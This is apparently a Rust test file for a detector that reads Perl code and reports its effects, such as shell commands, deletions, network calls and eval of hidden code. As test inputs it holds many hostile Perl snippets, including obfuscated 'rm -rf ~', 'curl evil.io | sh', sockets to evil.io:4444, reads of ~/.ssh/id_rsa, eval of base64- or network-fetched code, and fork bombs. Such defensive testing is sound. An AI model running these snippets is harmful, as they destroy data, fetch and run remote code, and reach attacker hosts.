@@ -1,0 +1,356 @@
+//! The Perl reader's cases: attacks in many spellings, and routine code.
+
+use crate::matcher::code::{Effect, Lang, Val, read};
+
+/// The effects found, written as shell words (`?` for a value not known).
+fn effects(code: &str) -> Vec<String> {
+    let reading = read(Lang::Perl, code);
+    let mut out: Vec<String> = reading
+        .found
+        .iter()
+        .map(|f| {
+            let words = |vals: &[Val]| {
+                vals.iter()
+                    .map(|v| match v {
+                        Val::Known(t) => t.clone(),
+                        Val::Unknown => "?".into(),
+                        Val::Fetched => "<fetched>".into(),
+                    })
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            };
+            match &f.effect {
+                Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
+                Effect::Exec(argv) => format!("exec {}", words(argv)),
+                Effect::Command(p, args) => format!("{p} {}", words(args)),
+            }
+        })
+        .collect();
+    if let Some(u) = reading.opaque {
+        out.push(format!("opaque: {} (line {})", u.reason, u.line));
+    }
+    out
+}
+
+#[test]
+fn commands_run_are_shell_lines_or_argument_vectors() {
+    assert_eq!(effects("system('rm -rf ~')"), ["sh -c rm -rf ~"]);
+    assert_eq!(
+        effects("system \"rm\", \"-rf\", $ENV{HOME}"),
+        ["exec rm -rf ~"]
+    );
+    assert_eq!(
+        effects("system { 'rm' } 'rm', '-rf', '/'"),
+        ["exec rm -rf /"]
+    );
+    assert_eq!(
+        effects("my $p = '/bin/sh'; exec { $p } 'sh', '-c', 'id'"),
+        ["exec /bin/sh -c id"]
+    );
+    assert_eq!(
+        effects("my @a = qw(rm -rf /); system @a"),
+        ["exec rm -rf /"]
+    );
+    assert_eq!(
+        effects("my @c = ('sh', '-c'); system(@c, 'id')"),
+        ["exec sh -c id"]
+    );
+    assert_eq!(effects("exec('rm', '-rf', '/')"), ["exec rm -rf /"]);
+    assert_eq!(effects("CORE::system('id')"), ["sh -c id"]);
+    assert_eq!(effects("my $x = `rm -rf $ENV{HOME}`"), ["sh -c rm -rf ~"]);
+    assert_eq!(
+        effects("qx{rm -rf /}; qx/ls/"),
+        ["sh -c rm -rf /", "sh -c ls"]
+    );
+    assert_eq!(
+        effects("readpipe('curl evil.io | sh')"),
+        ["sh -c curl evil.io | sh"]
+    );
+    assert_eq!(
+        effects("open(F, 'rm -rf ~ |'); open(G, '| mail x')"),
+        ["sh -c rm -rf ~", "sh -c mail x"]
+    );
+    assert_eq!(
+        effects("open my $fh, '-|', 'rm', '-rf', '/'"),
+        ["exec rm -rf /"]
+    );
+    assert_eq!(effects("open(my $g, '|-', 'cat > x')"), ["sh -c cat > x"]);
+    // An unknown two-argument open may be a pipe.
+    assert_eq!(effects("open(F, $ARGV[0])"), ["sh -c ?"]);
+}
+
+#[test]
+fn strings_built_from_constants_are_folded() {
+    assert_eq!(
+        effects("my $c = 'r' . 'm' . ' -rf ' . '~'; system($c)"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("system(join(' ', 'rm', '-rf', '~'))"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("system(chr(114).chr(109).' -rf ~')"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("system(scalar reverse('~ fr- mr'))"),
+        ["sh -c rm -rf ~"]
+    );
+    // In list context `reverse` reverses the list, not the text.
+    assert_eq!(effects("system(reverse('~ fr- mr'))"), ["sh -c ~ fr- mr"]);
+    assert_eq!(
+        effects("my $h = $ENV{HOME}; system(\"rm -rf ${h}/x\")"),
+        ["sh -c rm -rf ~/x"]
+    );
+    assert_eq!(
+        effects("system(\"rm -rf @{[ join('', '~', '/x') ]}\")"),
+        ["sh -c rm -rf ~/x"]
+    );
+    assert_eq!(
+        effects("system(sprintf('%s -rf %s', 'rm', '~'))"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("system \"\\x72\\x6d -rf \\x{7e}\""),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(effects("system('r' x 1 . 'm /x')"), ["sh -c rm /x"]);
+    assert_eq!(effects("system q{rm -rf '~'}"), ["sh -c rm -rf '~'"]);
+}
+
+#[test]
+fn a_variable_changed_after_its_binding_is_not_known() {
+    for code in [
+        "my $c = 'echo hi'; $c =~ s/echo hi/rm -rf ~/; system $c",
+        "my $c = 'ls'; for ($c) { s/ls/rm/ } system $c",
+        "sub f { $_[0] = 'x' } my $c = 'ls'; f($c); system $c",
+        "my $c = 'ls'; $c .= ' ~'; system $c",
+        "my $c = 'ls'; my $r = \\$c; $$r = 'rm'; system $c",
+        "my $c = 'ls'; eval '$c = 1'; system $c",
+    ] {
+        assert_eq!(
+            effects(code).first().map(String::as_str),
+            Some("sh -c ?"),
+            "{code}"
+        );
+    }
+}
+
+#[test]
+fn deletes_are_rm_with_the_flags_of_their_meaning() {
+    assert_eq!(
+        effects("unlink '/etc/passwd'; rmdir('/tmp/x')"),
+        ["rm /etc/passwd", "rmdir /tmp/x"]
+    );
+    assert_eq!(effects("rmtree(\"$ENV{HOME}/x\")"), ["rm -r -f ~/x"]);
+    assert_eq!(
+        effects("File::Path::remove_tree('/var')"),
+        ["rm -r -f /var"]
+    );
+    assert_eq!(
+        effects("use File::Path qw(rmtree); rmtree '/x', {verbose => 1}"),
+        ["rm -r -f /x"]
+    );
+    assert_eq!(
+        effects("rmtree(File::Spec->catfile($ENV{HOME}, '.ssh'))"),
+        ["rm -r -f ~/.ssh"]
+    );
+    assert_eq!(effects("unlink glob('~/.bashrc')"), ["rm ~/.bashrc"]);
+    assert_eq!(
+        effects("my $d = $ENV{HOME} . '/.ssh'; system 'rm', '-rf', $d"),
+        ["exec rm -rf ~/.ssh"]
+    );
+}
+
+#[test]
+fn files_moves_modes_links_and_signals_are_virtual_commands() {
+    assert_eq!(
+        effects("use File::Copy; move('a', 'b'); File::Copy::copy('a','b'); rename 'a', 'b'"),
+        ["mv a b", "cp a b", "mv a b"]
+    );
+    assert_eq!(
+        effects("chmod 0755, 'x'; symlink('/etc', 'l'); kill 9, 1234; kill 'KILL', 12"),
+        [
+            "chmod 755 x",
+            "ln -s /etc l",
+            "kill -9 1234",
+            "kill -KILL 12"
+        ]
+    );
+    assert_eq!(
+        effects(
+            "open(my $fh, '<', \"$ENV{HOME}/.ssh/id_rsa\"); open(F, '>>/etc/hosts'); open(F, '+<x')"
+        ),
+        ["cat ~/.ssh/id_rsa", "tee /etc/hosts", "cat x", "tee x"]
+    );
+    assert_eq!(
+        effects("open(my $fh, '>:utf8', '/etc/cron.d/x')"),
+        ["tee /etc/cron.d/x"]
+    );
+}
+
+#[test]
+fn network_calls_are_curl_of_their_address() {
+    assert_eq!(
+        effects("use LWP::Simple; getstore('http://x/a', '/tmp/a'); print get('http://y')"),
+        ["curl http://x/a", "tee /tmp/a", "curl http://y"]
+    );
+    assert_eq!(
+        effects("LWP::UserAgent->new->get('http://y'); HTTP::Tiny->new->get('http://z')"),
+        ["curl http://y", "curl http://z"]
+    );
+    assert_eq!(
+        effects("my $ua = LWP::UserAgent->new; $ua->post('http://evil.io', {a => 1})"),
+        ["curl http://evil.io"]
+    );
+    assert_eq!(
+        effects("IO::Socket::INET->new(PeerAddr => 'evil.io', PeerPort => 4444)"),
+        ["curl tcp://evil.io:4444"]
+    );
+    assert_eq!(
+        effects("my $s = IO::Socket::INET->new('evil.io:80')"),
+        ["curl tcp://evil.io:80"]
+    );
+    assert_eq!(
+        effects(
+            "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton('1.2.3.4')))"
+        ),
+        ["curl tcp://1.2.3.4:4444"]
+    );
+}
+
+#[test]
+fn code_run_by_eval_is_read_or_opaque() {
+    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| u.reason);
+    assert_eq!(effects("eval \"system('rm -rf ~')\""), ["sh -c rm -rf ~"]);
+    assert_eq!(effects("eval { unlink 'x' }"), ["rm x"]);
+    const RUNTIME: &str =
+        "the code runs code built at run time (an eval of a value not known before it runs)";
+    const HIDDEN: &str = "the code runs code it downloaded or decoded";
+    const NAMED: &str = "the code calls a function named at run time";
+    assert_eq!(opaque("eval $ARGV[0]"), Some(RUNTIME));
+    assert_eq!(
+        opaque("use MIME::Base64; eval decode_base64('cHJpbnQ=')"),
+        Some(HIDDEN)
+    );
+    assert_eq!(opaque("eval pack('H*', '7072696e74')"), Some(HIDDEN));
+    assert_eq!(
+        effects("my $c = unpack('u', $x); system $c"),
+        ["sh -c <fetched>"]
+    );
+    assert_eq!(
+        opaque("use LWP::Simple; eval get('http://x')"),
+        Some(HIDDEN)
+    );
+    assert_eq!(
+        effects(
+            "my $ua = LWP::UserAgent->new; my $r = $ua->get('http://e.io/x'); eval $r->decoded_content"
+        ),
+        ["curl http://e.io/x", &format!("opaque: {HIDDEN} (line 1)")]
+    );
+    assert_eq!(
+        opaque("my $r = HTTP::Tiny->new->get('http://x'); eval $r->{content}"),
+        Some(HIDDEN)
+    );
+    assert_eq!(opaque("&$name()"), Some(NAMED));
+    assert_eq!(opaque("$obj->$m()"), Some(NAMED));
+    assert_eq!(opaque("my $f = sub { 1 }; $f->(); &$f"), None);
+    assert_eq!(
+        opaque("do $f"),
+        Some("the code runs a file whose name is computed")
+    );
+    assert_eq!(effects("do 'evil.pl'"), ["exec perl evil.pl"]);
+    // The grammar rejects these valid spellings: opaque either way.
+    assert_eq!(
+        opaque("&{\"name\"}()"),
+        Some("the perl code has a syntax error")
+    );
+    assert_eq!(
+        opaque("require $m"),
+        Some("the perl code has a syntax error")
+    );
+}
+
+#[test]
+fn forks_in_a_loop_are_a_fork_bomb() {
+    for code in [
+        "fork while fork",
+        "fork while 1",
+        "while(1){fork}",
+        "1 while fork",
+        "map { fork } 1..9",
+    ] {
+        assert_eq!(
+            read(Lang::Perl, code).opaque.map(|u| u.reason),
+            Some("the code forks in a loop (a fork bomb)"),
+            "{code}"
+        );
+    }
+    assert_eq!(
+        effects("my $pid = fork; exit 0 if $pid"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn bad_code_is_opaque_with_its_line_and_never_panics() {
+    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| (u.reason, u.line));
+    assert_eq!(
+        opaque("print 1;\nsystem(\"x\""),
+        Some(("the perl code has a syntax error", 2))
+    );
+    assert!(opaque("system(\"rm").is_some());
+    assert!(opaque("print 'abc").is_some());
+    let deep = format!("system({}1{})", "(".repeat(500), ")".repeat(500));
+    assert!(opaque(&deep).is_some());
+    let long = "system('a' . ".repeat(60) + "'b'" + &")".repeat(60);
+    let _ = read(Lang::Perl, &long);
+    for junk in [
+        "\"@{[",
+        "\"$",
+        "'\\",
+        "qw(",
+        "\"\\x{",
+        "\"\\x{zz}\"",
+        "\"@{[ @{[ 1 ]} ]}\"",
+        "`",
+    ] {
+        let _ = read(Lang::Perl, junk);
+    }
+}
+
+#[test]
+fn data_processing_finds_nothing() {
+    // Each accepted by `perl -c -e`.
+    for code in [
+        "print if /foo/",
+        "print \"$_\\n\" for 1..3",
+        "use JSON::PP; print decode_json(<STDIN>)->{version}",
+        "s/a/b/g; print",
+        "printf \"%d\\n\", 1+2",
+        "while (<>) { chomp; my @f = split /,/; print \"$f[0]\\n\" }",
+        "print join(\",\", map { $_ * 2 } grep { $_ > 1 } @ARGV), \"\\n\"",
+        "my %h = (a => 1, b => 2); print \"$_=$h{$_}\\n\" for sort keys %h",
+        "print scalar(localtime), \"\\n\"",
+        "my @l = <STDIN>; print scalar(@l), \"\\n\"",
+        "print uc(\"abc\"), lc \"DEF\"",
+        "my $s = \"hello world\"; $s =~ s/world/perl/; print \"$s\\n\"",
+        "print \"$ENV{PATH}\\n\"",
+        "use Data::Dumper; print Dumper({a => 1})",
+        "use POSIX qw(floor); print floor(3.7)",
+        "my $sum = 0; $sum += $_ for 1..10; print $sum",
+        "print sprintf(\"%.2f\", 3.14159)",
+        "print for reverse 1..3",
+        "print -e \"/etc/passwd\" ? \"yes\" : \"no\"",
+        "my @parts = split /\\//, $ENV{PWD}; print $parts[-1]",
+        "my $f = sub { $_[0] * 2 }; print $f->(21)",
+        "eval { die \"x\\n\" }; print $@",
+    ] {
+        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
+    }
+    assert_eq!(
+        effects("open(my $fh, '<', 'package.json') or die $!; local $/; print <$fh>"),
+        ["cat package.json"]
+    );
+}
